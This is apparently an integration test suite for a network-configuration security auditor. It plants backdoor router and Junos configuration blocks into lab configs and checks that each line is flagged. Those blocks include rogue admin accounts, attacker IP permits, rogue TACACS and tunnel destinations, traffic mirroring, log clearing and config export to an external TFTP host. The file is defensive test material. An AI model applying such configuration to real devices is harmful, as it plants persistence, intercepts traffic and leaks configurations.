//! `stormwatch audit` and `stormwatch exposure` through the real binary, on real
//! configurations from shared/data/netconf.

use assert_cmd::Command;
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

fn bin(db: &Path) -> Command {
    let mut c = Command::cargo_bin("stormwatch").expect("binary");
    c.arg("--db").arg(db).arg("--no-progress");
    c.env_remove("STORMWATCH_DB")
        .env_remove("STORMWATCH_DATABASE_URL");
    c
}

fn json_of(out: &[u8]) -> Value {
    serde_json::from_slice(out)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(out)))
}

fn audit_json(db: &Path, args: &[&str]) -> (i32, Value) {
    let o = bin(db)
        .arg("--format")
        .arg("json")
        .arg("audit")
        .args(args)
        .output()
        .expect("run");
    (o.status.code().unwrap_or(-1), json_of(&o.stdout))
}

fn lab(rel: &str) -> Option<PathBuf> {
    stormwatch_testkit::shared_data(&format!("netconf/batfish-lab-validation/{rel}"))
}

/// (rule, line) pairs of a JSON document's findings.
fn pairs(doc: &Value) -> BTreeSet<(String, u64)> {
    doc["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or("").to_owned(),
                f["line"].as_u64().unwrap_or(0),
            )
        })
        .collect()
}

/// Plants `block` before the final `end` line (or at the end); returns the planted
/// copy and the 1-based line number of the block's first line.
fn plant(original: &str, block: &[&str]) -> (String, u64) {
    let mut lines: Vec<&str> = original.lines().collect();
    let at = lines
        .iter()
        .rposition(|l| l.trim() == "end")
        .unwrap_or(lines.len());
    for (i, b) in block.iter().enumerate() {
        lines.insert(at + i, b);
    }
    (lines.join("\n") + "\n", at as u64 + 1)
}

/// Audits the original and the planted copy; checks every expected (block index,
/// rule) is found at its line and that the original's findings are all still there.
fn planted_case(src: &Path, block: &[&str], expect: &[(usize, &str)]) {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let text = std::fs::read_to_string(src).expect("read");
    let orig = dir.path().join("orig.cfg");
    std::fs::write(&orig, &text).expect("write");
    let (planted, first) = plant(&text, block);
    let p = dir.path().join("planted.cfg");
    std::fs::write(&p, &planted).expect("write");
    let (_, before) = audit_json(&db, &[orig.to_str().unwrap_or("")]);
    let (code, after) = audit_json(&db, &[p.to_str().unwrap_or("")]);
    assert_eq!(code, 1, "{after}");
    let got = pairs(&after);
    let mut missing = Vec::new();
    for (i, rule) in expect {
        let line = first + *i as u64;
        if !got.contains(&((*rule).to_owned(), line)) {
            missing.push(format!("{rule} at line {line} (`{}`)", block[*i]));
        }
    }
    assert!(
        missing.is_empty(),
        "{}: not found: {missing:?}\nfindings: {got:?}",
        src.display()
    );
    for (rule, line) in pairs(&before) {
        // Lines after the insertion point moved down by the block's length.
        let l = if line >= first {
            line + block.len() as u64
        } else {
            line
        };
        assert!(
            got.contains(&(rule.clone(), l)),
            "{}: original finding {rule} at {line} lost",
            src.display()
        );
    }
    // Nothing new fires above the planted block except file-level (line 1) findings.
    for (rule, line) in &got {
        let orig_line = if *line >= first + block.len() as u64 {
            line - block.len() as u64
        } else {
            *line
        };
        let known = pairs(&before).contains(&(rule.clone(), orig_line));
        assert!(
            known || *line >= first || *line == 1 || matches!(rule.as_str(), "AUD041" | "AUD090"),
            "{}: unexpected {rule} at {line}",
            src.display()
        );
    }
    // Secrets never appear.
    let all = after.to_string();
    for secret in ["0822455D0A16", "Ledl3D", "$9$abcdefg", "s3cr3tRW"] {
        assert!(!all.contains(secret), "secret {secret} printed");
    }
}

#[test]
fn planted_ios_xe() {
    let Some(src) = lab("cisco_private_asn/configs/R-PrivateASN100/show_running-config.txt") else {
        return;
    };
    let block = [
        "access-list 20 permit 45.146.120.210",
        "ip ssh port 22022 rotary 1",
        "ip http secure-port 18443",
        "vstack",
        "tacacs-server host 193.43.104.185 key 7 0822455D0A16",
        "username cisco_support privilege 15 secret 5 $1$abcd$Ledl3D.5Xx8hkXUgobF0i.",
        "snmp-server community public RW",
        "interface Tunnel99",
        " tunnel destination 167.88.164.166",
        "monitor session 5 type erspan-source",
        " destination",
        "  ip address 59.148.233.250",
        "monitor capture mycap interface GigabitEthernet1 both match ipv4 protocol tcp any any eq 49",
        "monitor capture mycap export bootflash:mycap.pcap",
        "iox",
        "app-hosting appid sniff",
        "event manager applet CLEAN",
        " action 1.0 cli command \"clear logging\"",
        "archive",
        " path tftp://103.169.91.231/$h",
        "line vty 5 15",
        " transport input telnet",
    ];
    let expect = [
        (0, "AUD001"),
        (0, "AUD013"),
        (1, "AUD020"),
        (2, "AUD021"),
        (3, "AUD031"),
        (4, "AUD002"),
        (4, "AUD100"),
        (5, "AUD042"),
        (5, "AUD101"),
        (6, "AUD050"),
        (6, "AUD051"),
        (7, "AUD060"),
        (8, "AUD002"),
        (9, "AUD070"),
        (11, "AUD002"),
        (12, "AUD072"),
        (13, "AUD073"),
        (14, "AUD080"),
        (15, "AUD080"),
        (17, "AUD093"),
        (19, "AUD074"),
        (19, "AUD002"),
        (20, "AUD011"),
        (21, "AUD010"),
    ];
    planted_case(&src, &block, &expect);
}

#[test]
fn planted_nx_os() {
    let Some(src) = lab("cisco_private_asn/configs/R-PublicASN100/show_running-config.txt") else {
        return;
    };
    let block = [
        "feature telnet",
        "feature bash-shell",
        "username backdoor password 5 $1$abcd$Ledl3D.5Xx8hkXUgobF0i.  role network-admin",
        "snmp-server community private group network-admin",
        "tacacs-server host 193.43.104.185 key 7 \"0822455D0A16\"",
        "monitor session 3 type erspan-source",
        "ip access-list MGMT",
        "  10 permit ip 45.146.120.210/32 any",
    ];
    let expect = [
        (0, "AUD010"),
        (1, "AUD080"),
        (2, "AUD042"),
        (2, "AUD101"),
        (3, "AUD050"),
        (3, "AUD051"),
        (4, "AUD002"),
        (4, "AUD100"),
        (5, "AUD070"),
        (7, "AUD001"),
    ];
    planted_case(&src, &block, &expect);
}

#[test]
fn planted_ios_xr() {
    let Some(src) = lab("cisco_xr_ios_vpnv4/configs/PE1/show_running-config.txt") else {
        return;
    };
    let block = [
        "telnet vrf default ipv4 server max-servers 10",
        "ssh server port 57722",
        "username hacker",
        " group root-lr",
        " secret 5 $1$abcd$Ledl3D.5Xx8hkXUgobF0i.",
        "ipv4 access-list BACKDOOR",
        " 10 permit ipv4 host 45.146.120.210 any",
        "interface tunnel-ip99",
        " tunnel destination 167.88.164.166",
        "monitor-session TAP ethernet",
    ];
    let expect = [
        (0, "AUD010"),
        (1, "AUD022"),
        (1, "AUD020"),
        (2, "AUD042"),
        (4, "AUD101"),
        (6, "AUD001"),
        (7, "AUD060"),
        (8, "AUD002"),
        (9, "AUD071"),
    ];
    planted_case(&src, &block, &expect);
}

#[test]
fn planted_junos_set() {
    let Some(src) =
        lab("junos_private_asn/configs/R-PrivateASN100/show_configuration__pipe__display_set.txt")
    else {
        return;
    };
    let block = [
        "set system services telnet",
        "set system login user backdoor class super-user",
        "set system login user backdoor authentication encrypted-password \"$1$abcd$Ledl3D.5Xx8hkXUgobF0i.\"",
        "set system login user backdoor authentication ssh-rsa \"ssh-rsa AAAAB3NzaC1yc2E backdoor@vps\"",
        "set system tacplus-server 193.43.104.185 secret \"$9$abcdefg\"",
        "set snmp community public authorization read-write",
        "set firewall family inet filter MGMT term vps from source-address 45.146.120.210/32",
        "set interfaces gr-0/0/0 unit 0 tunnel destination 167.88.164.166",
        "set forwarding-options port-mirroring input rate 1",
        "set system services web-management https interface ge-0/0/0.0",
    ];
    let expect = [
        (0, "AUD010"),
        (1, "AUD042"),
        (2, "AUD101"),
        (3, "AUD043"),
        (4, "AUD002"),
        (4, "AUD100"),
        (5, "AUD050"),
        (5, "AUD051"),
        (6, "AUD001"),
        (7, "AUD060"),
        (7, "AUD002"),
        (8, "AUD071"),
        (9, "AUD030"),
    ];
    planted_case(&src, &block, &expect);
}

#[test]
fn planted_junos_curly() {
    let Some(src) = stormwatch_testkit::shared_data("netconf/ciscoconfparse/sample_01.junos")
    else {
        return;
    };
    let block = [
        "system {",
        "    services {",
        "        telnet;",
        "    }",
        "    tacplus-server {",
        "        193.43.104.185 secret \"$9$abcdefg\";",
        "    }",
        "}",
    ];
    planted_case(&src, &block, &[(2, "AUD010"), (5, "AUD002"), (5, "AUD100")]);
}

#[test]
fn json_shape_exit_codes_and_bad_inputs() {
    let Some(good) = lab("cisco_private_asn/configs/R-PrivateASN100/show_running-config.txt")
    else {
        return;
    };
    let Some(f5) = stormwatch_testkit::shared_data("netconf/ciscoconfparse/sample_01.f5") else {
        return;
    };
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let (code, doc) = audit_json(
        &db,
        &[good.to_str().unwrap_or(""), f5.to_str().unwrap_or("")],
    );
    assert_eq!(code, 1);
    for f in doc["findings"].as_array().expect("findings") {
        for k in [
            "rule",
            "title",
            "severity",
            "technique",
            "file",
            "line",
            "message",
            "remediation",
            "baseline_file",
            "baseline_line",
        ] {
            assert!(f.get(k).is_some(), "finding lacks {k}: {f}");
        }
        assert!(f["line"].as_u64().unwrap_or(0) >= 1);
        assert!(["critical", "high", "medium", "low", "info"]
            .contains(&f["severity"].as_str().unwrap_or("")));
    }
    assert_eq!(doc["skipped"][0]["file"], f5.to_str().unwrap_or(""));
    assert!(doc["skipped"][0]["reason"]
        .as_str()
        .unwrap_or("")
        .contains("F5"));
    assert_eq!(doc["errors"].as_array().map(Vec::len), Some(0));
    // The web UI on IOS XE is critical at its line.
    let text = std::fs::read_to_string(&good).expect("read");
    let http = text
        .lines()
        .position(|l| l == "ip http server")
        .expect("ip http server") as u64
        + 1;
    assert!(doc["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .any(|f| f["rule"] == "AUD030" && f["line"] == http && f["severity"] == "critical"));

    // Bad inputs: binary, empty, 100 MB, unknown vendor; the good file is still audited.
    let bin_f = dir.path().join("image.bin");
    std::fs::write(&bin_f, [0x7fu8, b'E', b'L', b'F', 0, 0, 1, 2, 0, 0]).expect("write");
    let empty = dir.path().join("empty.cfg");
    std::fs::write(&empty, "").expect("write");
    let big = dir.path().join("big.cfg");
    let fh = std::fs::File::create(&big).expect("create");
    fh.set_len(100 << 20).expect("set_len");
    drop(fh);
    let unknown = dir.path().join("unknown.txt");
    std::fs::write(&unknown, "lorem ipsum dolor\nsit amet\n").expect("write");
    let o = bin(&db)
        .args(["--format", "json", "audit"])
        .args([&bin_f, &empty, &big, &unknown, &good])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(2));
    let doc = json_of(&o.stdout);
    let errs: Vec<(String, String)> = doc["errors"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|e| {
            (
                e["file"].as_str().unwrap_or("").to_owned(),
                e["error"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert_eq!(errs.len(), 3, "{errs:?}");
    assert!(errs[0].1.contains("binary"), "{errs:?}");
    assert!(errs.iter().any(|e| e.1.contains("empty")), "{errs:?}");
    assert!(
        errs.iter().any(|e| e.1.contains("over the limit")),
        "{errs:?}"
    );
    assert!(doc["skipped"][0]["file"]
        .as_str()
        .unwrap_or("")
        .ends_with("unknown.txt"));
    assert!(doc["findings"].as_array().is_some_and(|f| !f.is_empty()));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.lines()
            .any(|l| l.starts_with("error: ") && l.contains("big.cfg")),
        "{err}"
    );

    // A clean configuration exits 0; info-only findings do not count.
    let clean = dir.path().join("clean.cfg");
    std::fs::write(&clean, "hostname ok\nlogging host 10.0.0.9\ntacacs-server host 10.0.0.5\naaa new-model\naaa accounting commands 15 default start-stop group tacacs+\nline vty 0 4\n access-class 10 in\n transport input ssh\n").expect("write");
    let (code, doc) = audit_json(&db, &[clean.to_str().unwrap_or("")]);
    assert_eq!(code, 0, "{doc}");
}

#[test]
fn explain_rules() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let o = bin(&db)
        .args(["audit", "--explain", "web-ui-enabled"])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(0));
    let s = String::from_utf8_lossy(&o.stdout);
    assert!(s.starts_with("AUD030 (web-ui-enabled)"), "{s}");
    assert!(s.contains("## Why is this bad?") && s.contains("## Remediation"));
    let o = bin(&db)
        .args(["audit", "--explain", "nope"])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).starts_with("error: no rule \"nope\""));
}

#[test]
fn sarif_is_valid_against_the_schema() {
    let Some(dirp) = stormwatch_testkit::shared_data("netconf/ciscoconfparse") else {
        return;
    };
    let Some(schema) = stormwatch_testkit::shared_data("formats/sarif-schema-2.1.0.json") else {
        return;
    };
    let Some(py) = stormwatch_testkit::oracle("STORMWATCH_PYTHON") else {
        return;
    };
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let o = bin(&db)
        .args(["--format", "sarif", "audit"])
        .arg(&dirp)
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1));
    let out = dir.path().join("a.sarif");
    std::fs::write(&out, &o.stdout).expect("write");
    let doc = json_of(&o.stdout);
    assert!(doc["runs"][0]["results"]
        .as_array()
        .is_some_and(|r| r.len() > 50));
    let check = std::process::Command::new(py)
        .arg("-c")
        .arg("import json,sys,jsonschema; s=json.load(open(sys.argv[1])); jsonschema.validators.validator_for(s)(s).validate(json.load(open(sys.argv[2]))); print('ok')")
        .arg(&schema)
        .arg(&out)
        .output()
        .expect("python");
    assert!(
        check.status.success(),
        "SARIF invalid: {}",
        String::from_utf8_lossy(&check.stderr)
    );
}

#[test]
fn drift_against_baseline() {
    let Some(src) = lab("cisco_private_asn/configs/R-PrivateASN100/show_running-config.txt") else {
        return;
    };
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let base = std::fs::read_to_string(&src).expect("read");
    // The attacker adds an ACL line with a VPS address, changes the TACACS host and
    // removes the VTY access-class and a logging host.
    let base = base
        .replacen("line vty 0 4\n", "line vty 0 4\n access-class 10 in\n", 1)
        .replacen("end\n", "logging host 10.9.9.9\nend\n", 1);
    let bdir = dir.path().join("baseline");
    std::fs::create_dir(&bdir).expect("mkdir");
    std::fs::write(bdir.join("approved.cfg"), &base).expect("write");
    let cur = base
        .replacen(" access-class 10 in\n", "", 1)
        .replacen("logging host 10.9.9.9\n", "", 1)
        .replacen("end\n", "access-list 20 permit 45.146.120.210\nend\n", 1);
    let curf = dir.path().join("now.cfg");
    std::fs::write(&curf, &cur).expect("write");
    let (code, doc) = audit_json(
        &db,
        &[
            "--baseline",
            bdir.to_str().unwrap_or(""),
            curf.to_str().unwrap_or(""),
        ],
    );
    assert_eq!(code, 1);
    let f: Vec<&Value> = doc["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["rule"].as_str().unwrap_or("").starts_with("AUD20"))
        .collect();
    let added_line = cur
        .lines()
        .position(|l| l.starts_with("access-list 20 "))
        .expect("acl") as u64
        + 1;
    assert!(
        f.iter().any(|x| x["rule"] == "AUD200"
            && x["line"] == added_line
            && x["severity"] == "critical"),
        "{f:?}"
    );
    let vty_line = cur.lines().position(|l| l == "line vty 0 4").expect("vty") as u64 + 1;
    let base_ac = base
        .lines()
        .position(|l| l == " access-class 10 in")
        .expect("ac") as u64
        + 1;
    assert!(
        f.iter().any(|x| x["rule"] == "AUD201"
            && x["line"] == vty_line
            && x["baseline_line"] == base_ac
            && x["severity"] == "high"),
        "{f:?}"
    );
    let base_log = base
        .lines()
        .position(|l| l == "logging host 10.9.9.9")
        .expect("log") as u64
        + 1;
    assert!(
        f.iter().any(|x| x["rule"] == "AUD201"
            && x["line"] == 1
            && x["baseline_line"] == base_log
            && x["baseline_file"]
                .as_str()
                .is_some_and(|b| b.ends_with("approved.cfg"))),
        "{f:?}"
    );
    assert_eq!(f.len(), 3, "{f:?}");
}

#[test]
fn exposure_inventory_and_configs() {
    let Some(kev) = stormwatch_testkit::shared_data("kev/known_exploited_vulnerabilities.json")
    else {
        return;
    };
    let Some(cfg) = lab("cisco_private_asn/configs/R-PrivateASN100/show_running-config.txt") else {
        return;
    };
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let inv = dir.path().join("inventory.csv");
    std::fs::write(
        &inv,
        "host,vendor,product,version\nedge1,Cisco,IOS XE,17.3.4\nedge2,Cisco,IOS XE,17.9.4a\nfw1,Palo Alto Networks,PAN-OS,10.2.7-h8\ncore1,Juniper,Junos,21.4R3\n",
    )
    .expect("write");
    let o = bin(&db)
        .args(["--format", "json", "exposure", "--kev"])
        .arg(&kev)
        .arg(&inv)
        .arg(&cfg)
        .output()
        .expect("run");
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let doc = json_of(&o.stdout);
    assert_eq!(doc["summary"]["devices"], 5);
    assert_eq!(doc["summary"]["exposed"], 3);
    let dev = |h: &str| {
        doc["devices"]
            .as_array()
            .and_then(|d| d.iter().find(|x| x["host"] == h))
            .cloned()
            .unwrap_or(Value::Null)
    };
    let e1 = &dev("edge1")["exposures"];
    assert!(
        e1.as_array()
            .is_some_and(|a| a.iter().any(|e| e["cve"] == "CVE-2023-20198"
                && e["confidence"] == "affected"
                && e["kev_due_date"] == "2023-10-20")),
        "{e1}"
    );
    let e2 = &dev("edge2")["exposures"];
    assert!(
        e2.as_array().is_some_and(|a| a
            .iter()
            .all(|e| e["cve"] == "CVE-2018-0171" && e["confidence"] == "possible")),
        "{e2}"
    );
    assert!(dev("fw1")["exposures"][0]["cve"] == "CVE-2024-3400");
    let c = &dev("R-PrivateASN100")["exposures"];
    assert!(
        c.as_array()
            .is_some_and(|a| a.iter().any(|e| e["cve"] == "CVE-2023-20198"
                && e["feature_enabled"] == true
                && e["confidence"] == "possible")),
        "{c}"
    );
    let o = bin(&db)
        .args(["exposure", "--kev"])
        .arg(&kev)
        .arg(&inv)
        .output()
        .expect("run");
    let s = String::from_utf8_lossy(&o.stdout);
    assert!(s.contains("2 of 4 devices exposed"), "{s}");
    // KEV dates from the store's KEV vulnerability objects (x_kev), without --kev.
    let o = bin(&db)
        .arg("-q")
        .arg("import")
        .arg(&kev)
        .output()
        .expect("import");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = bin(&db)
        .args(["--format", "json", "exposure"])
        .arg(&inv)
        .output()
        .expect("run");
    let doc = json_of(&o.stdout);
    let fw = doc["devices"]
        .as_array()
        .and_then(|d| d.iter().find(|x| x["host"] == "fw1"))
        .cloned()
        .unwrap_or(Value::Null);
    assert_eq!(fw["exposures"][0]["kev_due_date"], "2024-04-19", "{fw}");
}

#[test]
fn reads_stdin() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("s.db");
    let o = bin(&db)
        .args(["--format", "jsonl", "audit", "-"])
        .write_stdin("hostname x\nlogging host 10.0.0.9\nline vty 0 4\n access-class 10 in\n transport input telnet\n")
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1));
    let first: Value =
        serde_json::from_slice(o.stdout.split(|b| *b == b'\n').next().unwrap_or(b""))
            .expect("jsonl");
    assert_eq!(
        (
            first["rule"].as_str(),
            first["line"].as_u64(),
            first["file"].as_str()
        ),
        (Some("AUD010"), Some(5), Some("-"))
    );
}
